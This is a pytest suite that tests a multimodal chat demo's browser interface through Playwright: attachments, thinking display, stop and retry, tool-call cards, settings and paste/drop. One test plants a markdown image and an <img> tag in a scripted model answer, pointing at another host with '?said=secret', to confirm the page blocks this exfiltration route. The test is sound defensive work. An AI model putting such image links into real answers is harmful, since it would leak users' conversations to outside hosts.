"""The demo in a real browser: Debian's chromium, driven by playwright.

Skipped where no Chromium is installed: ``apt-get install chromium`` (or ``chromium-browser``).
"""

from __future__ import annotations

import base64
import re
import socket
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from PIL import Image

from tests.app.chat_fakes import AFTER_CALLS, CALL, CALLS, CHROMIUM, END, THOUGHT, TOOLS
from tests.app.chat_server import Site, serve
from tests.timing import until

sync_api = pytest.importorskip("playwright.sync_api")
pytest.importorskip("gradio")
sync_api.expect.set_options(timeout=60_000)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser, Page

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium: apt-get install chromium"),
    pytest.mark.xdist_group("browser"),
]
EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
FLAGS = (
    *("--no-sandbox", "--disable-quic", "--disable-background-networking"),
    *("--disable-component-update", "--disable-sync", "--no-first-run", "--disable-gpu"),
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_api.sync_playwright() as playwright:
        running = playwright.chromium.launch(
            executable_path=CHROMIUM, args=list(FLAGS), timeout=120_000
        )
        yield running
        running.close()


@pytest.fixture(scope="module")
def demo_site() -> Iterator[Site]:
    """The demo checkpoint."""
    with serve() as site:
        yield site


@pytest.fixture(scope="module")
def scripted_site() -> Iterator[Site]:
    """Answers ``Red.`` and the question's number; to a greeting 1500 words, fifty tokens a second;
    to a puzzle with a tool call."""
    by_word = {
        "Hello": "word " * 1500 + END,
        "says so": "Red." + END,
        "Puzzle": "Let me look." + CALLS + CALL + AFTER_CALLS,
    }
    with serve("Red. (#)" + END, delay=0.02, by_word=by_word) as site:
        yield site


@pytest.fixture
def visit(browser: Browser) -> Iterator[Callable[..., Page]]:
    """Open a tab; at the end it must not have failed, or asked any other host for anything."""
    contexts, strangers, failures = [], [], []

    def note(request: Any) -> None:
        if not request.url.startswith(("http://127.0.0.1:", "data:", "blob:")):
            strangers.append(request.url)

    def open_tab(site: Site, **options: Any) -> Page:
        context = browser.new_context(**{"viewport": {"width": 1280, "height": 800}, **options})
        context.set_default_timeout(60_000)
        contexts.append(context)
        page = context.new_page()
        page.on("request", note)
        page.on("pageerror", lambda failure: failures.append(failure))
        page.goto(site.url)
        page.wait_for_selector("#k3-box textarea")
        return page

    yield open_tab
    for context in contexts:
        context.close()
    assert strangers == []
    assert failures == []


def attach(page: Page, *paths: Path) -> None:
    page.set_input_files("#k3-box input[type=file]", list(paths))
    page.wait_for_selector("#k3-box .thumbnails, #k3-box .thumbnail-item")


def ask(page: Page, text: str) -> None:
    page.fill("#k3-box textarea", text)
    page.locator("#k3-box .submit-button").click()


def answer(page: Page, text: str | re.Pattern[str]) -> None:
    """Wait until the last answer says so, and the box takes questions again."""
    sync_api.expect(page.locator("#k3-chat .bot.message").last).to_contain_text(text)
    page.wait_for_selector("#k3-box .submit-button")


def question_back(page: Page, text: str) -> None:
    """Wait until the box holds the question again: the page shows parts of one answer in turn."""
    sync_api.expect(page.locator("#k3-box textarea")).to_have_value(text)


def wait_idle(site: Site) -> None:
    until(lambda: not site.state()["running"])


def test_a_picture_thinking_a_clip_and_a_bad_file(
    demo_site: Site, visit: Callable[..., Page], tmp_path: Path
) -> None:
    page = visit(demo_site)
    attach(page, EXAMPLES / "fox-kite-bus.png")
    page.get_by_role("button", name="Settings").click()
    page.locator("#k3-thinking input").check()
    page.get_by_role("button", name="Toggle Sidebar").click()
    ask(page, "Describe the image.")
    answer(page, "A fox, a kite and a bus.")
    thought = page.locator("#k3-chat .thought-group")
    sync_api.expect(thought).to_contain_text(re.compile(r"Thought\s*\(\d"))
    thought.locator(".title").click()
    sync_api.expect(page.locator("#k3-chat")).to_contain_text("Left to right: fox, kite, bus.")
    sync_api.expect(page.locator("#k3-facts")).to_contain_text("448 \u00d7 336 px")
    sync_api.expect(page.locator("#k3-figures")).to_contain_text("226")
    sync_api.expect(page.locator("#k3-seen img")).to_have_count(1)

    attach(page, EXAMPLES / "sailboat.mp4")
    ask(page, "What happens in the video?")
    answer(page, "A sailboat moves from left to right.")
    sync_api.expect(page.locator("#k3-chat video")).to_have_count(1)
    sync_api.expect(page.locator("#k3-seen img")).to_have_count(4)
    sync_api.expect(page.locator("#k3-seen")).to_contain_text("0:01.250 frame 3")
    sync_api.expect(page.locator("#k3-figures")).to_contain_text("1 of 2")

    bad = tmp_path / "bad.png"
    bad.write_bytes(b"<html>no</html>")
    attach(page, bad)
    ask(page, "And this?")
    answer(page, "bad.png was left out")
    question_back(page, "And this?")
    attach(page, EXAMPLES / "owl-transparent.png")
    ask(page, "What is this?")
    # The chat goes on without the bad file. Of a picture this late in a conversation the demo model
    # often names something from before (docs/demo); that it is an answer is what counts here.
    answer(page, re.compile(r"^(?!.*left out).*\w\."))
    sync_api.expect(page.locator("#k3-seen img")).to_have_count(1)


def test_an_example_on_a_phone_in_the_dark(demo_site: Site, visit: Callable[..., Page]) -> None:
    page = visit(
        demo_site,
        viewport={"width": 390, "height": 844},
        is_mobile=True,
        has_touch=True,
        color_scheme="dark",
    )
    sync_api.expect(page.locator("body")).to_contain_class("dark")
    box = page.locator("#k3-box").bounding_box()
    assert box is not None
    assert box["y"] + box["height"] <= 844, "the box is in reach without scrolling"
    page.locator("#k3-chat .example").nth(1).tap()
    answer(page, "Three.")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.get_by_role("button", name="Light / dark").tap()
    sync_api.expect(page.locator("body")).not_to_contain_class("dark")


def test_stop_ends_the_generation(scripted_site: Site, visit: Callable[..., Page]) -> None:
    page = visit(scripted_site)
    ask(page, "Hello")
    words = page.locator("#k3-chat .bot.message").last
    sync_api.expect(words).to_contain_text("word word")
    assert scripted_site.state()["running"]
    sync_api.expect(page.locator("#k3-figures")).to_contain_text("~")
    page.locator("#k3-box .stop-button").click()
    answer(page, "Stopped.")
    wait_idle(scripted_site)
    sync_api.expect(page.locator("#k3-chat .bot.message").first).to_contain_text("word word")
    page.get_by_role("button", name="New chat").click()
    sync_api.expect(page.locator("#k3-chat .bot.message")).to_have_count(0)


def test_a_closed_tab_ends_the_generation(scripted_site: Site, visit: Callable[..., Page]) -> None:
    page = visit(scripted_site)
    ask(page, "Hello")
    sync_api.expect(page.locator("#k3-chat .bot.message").last).to_contain_text("word word")
    assert scripted_site.state()["running"]
    page.close(run_before_unload=False)
    wait_idle(scripted_site)


def test_retry_edit_and_undo_keep_the_files(
    scripted_site: Site, visit: Callable[..., Page], tmp_path: Path
) -> None:
    Image.new("RGB", (56, 28), "red").save(tmp_path / "red.png")
    page = visit(scripted_site)
    before = scripted_site.state()["count"]

    def asked(times: int, text: str) -> None:
        answer(page, f"Red. ({before + times - 1})")
        state = scripted_site.state()
        assert state["count"] == before + times
        assert state["asked"].count("<|media_begin|>") == 1
        assert text in state["asked"]

    attach(page, tmp_path / "red.png")
    ask(page, "Which one?")
    asked(1, "Which one?")
    page.get_by_role("button", name="Retry").click()
    asked(2, "Which one?")
    page.get_by_role("button", name="Edit").click()
    page.locator("#k3-chat textarea").fill("Which colour?")
    page.locator("#k3-chat").get_by_role("button", name="Submit").click()
    asked(3, "Which colour?")
    page.get_by_role("button", name="Undo").click()
    sync_api.expect(page.locator("#k3-chat .bot.message")).to_have_count(0)
    question_back(page, "Which colour?")
    page.locator("#k3-box .submit-button").click()
    asked(4, "Which colour?")


def test_a_tool_call_is_a_card_and_its_result_continues_the_answer(
    scripted_site: Site, visit: Callable[..., Page]
) -> None:
    page = visit(scripted_site)
    field = page.locator("#k3-result")
    sync_api.expect(field).not_to_be_visible()
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Tools (JSON)").fill(TOOLS)
    page.get_by_role("button", name="Toggle Sidebar").click()
    ask(page, "Puzzle: what is a cat?")
    card = page.locator("#k3-chat .thought-group")
    sync_api.expect(card).to_contain_text("Tool call: look_up")
    sync_api.expect(card).to_contain_text('"word": "cat"')
    assert "look_up" in scripted_site.state()["asked"]
    sync_api.expect(field).to_contain_text("Result of look_up")
    field.locator("textarea").fill("a small animal, it says so")
    field.get_by_role("button", name="Send result").click()
    sync_api.expect(page.locator("#k3-chat .thought-group").nth(1)).to_contain_text(
        "Result of look_up"
    )
    answer(page, "Red.")
    assert "a small animal" in scripted_site.state()["asked"]
    sync_api.expect(field).not_to_be_visible()


def test_an_answer_cannot_make_the_browser_ask_others(visit: Callable[..., Page]) -> None:
    """A picture of another host in an answer would tell it what was said."""
    with socket.create_server(("127.0.0.1", 0)) as other:
        host = f"http://127.0.0.1:{other.getsockname()[1]}"
        script = f"Well. ![it]({host}/?said=secret) <img src='{host}/html'> There."
        with serve(script + END) as site:
            page = visit(site)
            ask(page, "Hello")
            answer(page, "There.")
            picture = page.locator("#k3-chat .bot.message img").last
            page.wait_for_function("image => image.complete", arg=picture.element_handle())
            assert picture.evaluate("image => image.naturalWidth") == 0
            other.settimeout(0.5)
            with pytest.raises(TimeoutError):
                other.accept()


def test_wrong_settings_are_said_and_change_nothing(
    scripted_site: Site, visit: Callable[..., Page]
) -> None:
    page = visit(scripted_site)
    before = scripted_site.state()["count"]
    ask(page, "Which colour?")
    answer(page, f"Red. ({before})")
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Seed").fill("abc")
    page.get_by_role("button", name="Toggle Sidebar").click()
    ask(page, "And now?")
    toast = page.locator(".toast-wrap")
    sync_api.expect(toast).to_contain_text("The seed must be a whole number, not 'abc'.")
    sync_api.expect(page.locator("#k3-chat .error")).to_have_count(0)
    sync_api.expect(page.locator("#k3-chat .bot.message")).to_have_count(1)
    question_back(page, "And now?")
    page.get_by_role("button", name="Settings").click()
    page.get_by_label("Seed").fill("5")
    page.get_by_role("button", name="Toggle Sidebar").click()
    page.locator("#k3-box .submit-button").click()
    answer(page, f"Red. ({before + 1})")


def test_an_empty_box_sends_nothing_and_goes_on(
    scripted_site: Site, visit: Callable[..., Page]
) -> None:
    page = visit(scripted_site)
    before = scripted_site.state()["count"]
    for text in ("", "  "):
        ask(page, text)
        page.wait_for_timeout(500)
    ask(page, "Which colour?")
    answer(page, f"Red. ({before})")
    sync_api.expect(page.locator("#k3-chat .bot.message")).to_have_count(1)


DROP = """([selector, kind, name, type, base64]) => {
    const bytes = Uint8Array.from(atob(base64), c => c.charCodeAt(0));
    const data = new DataTransfer();
    data.items.add(new File([bytes], name, { type }));
    const target = document.querySelector(selector);
    if (kind === "paste") {
        target.dispatchEvent(new ClipboardEvent("paste", {
            clipboardData: data, bubbles: true, cancelable: true }));
        return;
    }
    for (const step of ["dragenter", "dragover", "drop"])
        target.dispatchEvent(new DragEvent(step, {
            dataTransfer: data, bubbles: true, cancelable: true }));
}"""


@pytest.mark.parametrize("kind", ["paste", "drop"])
def test_pictures_are_pasted_and_dropped(
    kind: str, scripted_site: Site, visit: Callable[..., Page], tmp_path: Path
) -> None:
    Image.new("RGB", (56, 28), "red").save(tmp_path / "red.png")
    data = base64.b64encode((tmp_path / "red.png").read_bytes()).decode()
    page = visit(scripted_site)
    page.locator("#k3-box textarea").focus()
    page.evaluate(DROP, ["#k3-box textarea", kind, "red.png", "image/png", data])
    page.wait_for_selector("#k3-box .thumbnail-item img")
    ask(page, f"Which colour was this, by {kind}?")
    answer(page, "Red.")
    state = scripted_site.state()
    assert f"by {kind}?" in state["asked"]
    assert state["asked"].count("<|media_begin|>") == 1
    sync_api.expect(page.locator("#k3-facts")).to_contain_text("56 \u00d7 28 px")


def test_what_a_browser_cannot_show_is_shown_as_png(
    scripted_site: Site, visit: Callable[..., Page], tmp_path: Path
) -> None:
    Image.new("CMYK", (80, 40), (0, 255, 255, 0)).save(tmp_path / "scan.tif")
    heic = tmp_path / "photo.heic"
    heic.write_bytes(b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(64))
    page = visit(scripted_site)
    attach(page, tmp_path / "scan.tif", heic)
    ask(page, "What are these?")
    answer(page, "Red.")
    picture = page.locator("#k3-chat .user-row img")
    sync_api.expect(picture).to_have_count(1)
    picture.evaluate("image => image.decode()")
    assert picture.evaluate("image => [image.naturalWidth, image.naturalHeight]") == [80, 40]
    sync_api.expect(page.locator("#k3-chat")).to_contain_text("photo.heic was left out: HEIC")


def test_an_older_turn_is_selected_to_see_what_the_model_saw(
    scripted_site: Site, visit: Callable[..., Page], tmp_path: Path
) -> None:
    for name, size in (("one.png", (56, 28)), ("two.png", (28, 84))):
        Image.new("RGB", size, "red").save(tmp_path / name)
    page = visit(scripted_site)
    facts = page.locator("#k3-facts")
    before = scripted_site.state()["count"]
    for number, name in enumerate(("one.png", "two.png"), start=before):
        attach(page, tmp_path / name)
        ask(page, f"Which is {name[:3]}?")
        answer(page, f"Red. ({number})")
        sync_api.expect(facts).to_contain_text(name)
    page.get_by_text("Which is one?").click()
    sync_api.expect(facts).to_contain_text("56 \u00d7 28 px")
    sync_api.expect(facts).not_to_contain_text("two.png")
    page.locator("#k3-chat .bot.message").last.click()
    sync_api.expect(facts).to_contain_text("28 \u00d7 84 px")


def test_an_endpoint_answers_thinks_and_is_stopped(visit: Callable[..., Page]) -> None:
    thought = "Let me think." + THOUGHT + "Red." + END
    by_word = {"Hello": "word " * 1500 + END}
    with serve(thought, delay=0.02, by_word=by_word, over_http=True) as site:
        page = visit(site)
        page.get_by_role("button", name="Settings").click()
        page.get_by_label("Thinking effort").click()
        page.get_by_role("option", name="low").click()
        page.get_by_role("button", name="Toggle Sidebar").click()
        attach(page, EXAMPLES / "fox-kite-bus.png")
        ask(page, "Which colour?")
        answer(page, "Red.")
        sync_api.expect(page.locator("#k3-chat .thought-group")).to_contain_text(
            re.compile(r"Thought\s*\(\d")
        )
        sync_api.expect(page.locator("#k3-figures")).to_contain_text("192")
        assert "thinking_effort=low" in site.state()["asked"]
        ask(page, "Hello")
        sync_api.expect(page.locator("#k3-chat .bot.message").last).to_contain_text("word word")
        assert site.state()["running"]
        page.locator("#k3-box .stop-button").click()
        answer(page, "Stopped.")
        wait_idle(site)
